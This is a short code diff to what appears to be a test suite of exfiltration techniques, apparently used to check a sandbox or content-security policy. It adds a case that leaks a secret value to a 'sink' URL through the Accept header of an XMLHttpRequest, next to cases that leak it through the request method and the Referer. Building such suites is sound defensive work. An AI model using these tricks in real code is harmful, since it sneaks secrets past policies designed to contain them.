@@ -25,6 +25,12 @@ export const HEADERS: readonly Attack[] = [
     { unwritten: true },
   ),
   variant('76b', 'accept header', (secret) => fetch(`${secret.sink}header`, { headers: { accept: `text/${secret.value}` } })),
+  variant('76c', 'accept header of an XHR', (secret) => {
+    const request = new XMLHttpRequest();
+    request.open('GET', `${secret.sink}header`);
+    request.setRequestHeader('accept', `text/${secret.value}`);
+    request.send();
+  }),
   row('77', 'value as the method of a request', (secret) => fetch(`${secret.sink}method`, { method: secret.value })),
   row('78', 'Referer, by the referrer of fetch', (secret) =>
     fetch(`${secret.sink}referer`, { referrer: `/attacks?q=${secret.value}`, referrerPolicy: 'unsafe-url' }),
